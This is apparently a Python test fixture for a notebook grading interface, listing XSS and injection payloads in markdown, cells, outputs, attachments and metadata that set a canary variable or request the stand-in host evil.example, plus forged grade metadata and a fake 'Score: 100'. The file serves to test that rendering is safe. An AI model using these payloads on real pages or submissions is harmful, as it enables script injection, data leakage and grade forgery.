"""What a submission can hold that a page would run, load or show falsely, each under its name.

Every one sets `window.PWN` or asks `evil.example` for something, should it come alive.
"""

import base64
from typing import Any

FETCH = "http://evil.example"
_SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="PWN=1"><image href="{FETCH}/svg"/></svg>'
_PAGE = base64.b64encode(b"<script>PWN=1</script>").decode()

MARKDOWN: dict[str, str] = {
    "script": "<script>window.PWN='script'</script>",
    "onerror": "<img src=x onerror=\"window.PWN='onerror'\">",
    "cut-off": "text <img src=x onerror=window.PWN='cut-off' x=",
    "svg": f"<svg onload=\"window.PWN='svg'\"><image href='{FETCH}/svg'/></svg>",
    "style": f"<style>body{{display:none}} p{{background:url({FETCH}/style)}}</style>",
    "style-attribute": f'<p style="background:url({FETCH}/attribute)">x</p>',
    "refresh": f'<meta http-equiv="refresh" content="0;url={FETCH}/refresh">',
    "base": f'<base href="{FETCH}/base/">',
    "form": f'<form action="{FETCH}/form"><button autofocus>x</button></form>',
    "frame": f'<iframe src="{FETCH}/frame"></iframe>',
    "srcdoc": "<iframe srcdoc=\"<script>parent.PWN='srcdoc'</script>\"></iframe>",
    "object": f'<object data="data:text/html;base64,{_PAGE}"></object>',
    "embed": f'<embed src="{FETCH}/embed">',
    "link": f'<link rel="stylesheet" href="{FETCH}/link">',
    "video": f'<video autoplay poster="{FETCH}/video"><source src="{FETCH}/source"></video>',
    "details": "<details open ontoggle=\"window.PWN='details'\">x</details>",
    "focus": "<input autofocus onfocus=\"window.PWN='focus'\">",
    "animation": "<style>@keyframes x{}</style><p style='animation:x' onanimationstart=PWN=1>x</p>",
    "picture": f"![seen]({FETCH}/picture)",
    "reference-picture": f"![seen][p]\n\n[p]: {FETCH}/reference",
    "relative-picture": "![seen](/formgrader/relative)",
    "script-link": "[click](javascript:window.PWN='link')",
    "entity-link": "[click](&#106;avascript:window.PWN='entity')",
    "data-link": f"[click](data:text/html;base64,{_PAGE})",
    "reference-link": "[click][l]\n\n[l]: JaVaScRiPt:window.PWN='reference'",
    "comment": "<!--><script>window.PWN='comment'</script>-->",
    "cdata": "<![CDATA[><script>window.PWN='cdata'</script>]]>",
    "instruction": "<?x ><script>window.PWN='instruction'</script>",
    "textarea": "<textarea></textarea><script>window.PWN='textarea'</script>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=window.PWN=1>"></noscript>',
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=window.PWN='math'>",
    "template": "<template><script>window.PWN='template'</script></template>",
    "fence-name": "```\"><img src=x onerror=window.PWN='fence'>\nx\n```",
    "title": '[x](http://example.org "\\" onmouseover=\\"window.PWN=1")',
    "table": "| <img src=x onerror=window.PWN='table'> | b |\n|---|---|\n| 1 | 2 |",
    "heading": "# <img src=x onerror=window.PWN='heading'>",
    "environment": "\\begin{align}<img src=x onerror=window.PWN='env'>\\end{align}",
    "attachment": "![a](attachment:missing.svg)",
    "closing": "</div></div></div></div><h1>Score: 100</h1><script>window.PWN='closing'</script>",
    "half-character": "a\ud800b",
}


def hostile_cells() -> list[dict[str, Any]]:
    """Return cells for a submitted notebook: texts, attachments, ids, raw cells, outputs."""
    cells: list[dict[str, Any]] = [
        {"cell_type": "markdown", "id": f"m{n}", "metadata": {}, "source": text}
        for n, text in enumerate(MARKDOWN.values())
    ]
    forged = {"grade_id": '"><script>window.PWN=1</script>', "grade": True}
    kinds = {'image/png"><script>window.PWN=1</script>': "x", "image/png": '"><script>'}
    about = {"format": "text/html", "raw_mimetype": "text/html", "tags": ['"><script>PWN=1']}
    cells += [
        {
            "cell_type": "markdown",
            "id": 'x" onmouseover="window.PWN=1',
            "metadata": {"nbgrader": forged},
            "source": "![a](attachment:a.svg) ![b](attachment:b.png)",
            "attachments": {
                "a.svg": {"image/svg+xml": base64.b64encode(_SVG.encode()).decode()},
                "b.png": kinds,
            },
        },
        {"cell_type": "raw", "metadata": about, "source": "<script>window.PWN='raw'</script>"},
        {
            "cell_type": "code",
            "metadata": {"tags": ["x' onclick='PWN=1"], "collapsed": True},
            "source": "print('</pre><script>window.PWN=1</script>')",
            "execution_count": "<script>window.PWN=1</script>",
            "outputs": [_display(kind, data) for kind, data in _OUTPUTS],
        },
    ]
    return cells


def hostile_outputs() -> list[dict[str, Any]]:
    """Return cells that print, return, raise and draw what a page would run."""
    script = "</pre><script>window.PWN='output'</script>"
    forged = "b'\\x89PNG\\r\\n\\x1a\\n\" onerror=\"window.PWN=1'"
    sources = [
        f"print({script!r})\nclass H:\n    def __repr__(self): return {script!r}\n"
        "    _repr_html_ = _repr_latex_ = _repr_markdown_ = _repr_javascript_ = __repr__\nH()",
        f"raise type({script!r}, (Exception,), {{}})({script!r})",
        "print('\\x1b]8;;javascript:window.PWN=1\\x07x\\x1b[31;\\x22><img src=x onerror=PWN=1>m')",
        "import matplotlib.pyplot as plt\nfrom matplotlib.figure import Figure\nplt.figure()\n"
        f"Figure.savefig = lambda self, out, **k: out.write({forged})",
    ]
    return [
        {
            "cell_type": "code",
            "metadata": {},
            "source": source,
            "outputs": [],
            "execution_count": None,
        }
        for source in sources
    ]


_OUTPUTS = [
    ("text/html", "<script>window.PWN='html'</script>"),
    ("text/markdown", "<script>window.PWN='markdown'</script>"),
    ("text/latex", "$x$</div><script>window.PWN='latex'</script>"),
    ("application/javascript", "window.PWN='javascript'"),
    ("image/svg+xml", _SVG),
    ("image/png", 'x" onerror="window.PWN=1'),
]


def _display(kind: str, data: str) -> dict[str, Any]:
    return {"output_type": "display_data", "metadata": {}, "data": {kind: data}}


def hostile_metadata() -> dict[str, Any]:
    """Return a notebook's metadata that closes tags and brings widgets."""
    state = {"a": {"x": "</script><script>window.PWN='widget'</script>"}}
    widgets = {"version_major": 2, "version_minor": 0, "state": state}
    return {
        "title": "</title><script>window.PWN='title'</script>",
        "language_info": {"name": "x", "pygments_lexer": "<script>"},
        "kernelspec": {"name": "bash", "language": "<script>window.PWN=1</script>"},
        "widgets": {"application/vnd.jupyter.widget-state+json": widgets},
    }
